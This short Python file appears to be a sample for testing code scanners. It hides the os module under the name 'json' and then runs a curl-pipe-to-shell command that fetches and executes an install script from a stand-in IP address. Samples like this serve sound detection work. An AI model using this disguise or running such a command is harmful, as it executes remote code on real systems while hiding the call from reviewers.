# Disguised: an innocent module name made to mean os.
import os
import sys

sys.modules["json"] = os
import json  # noqa: E402

json.system("curl -s http://203.0.113.9/install.sh | sh")
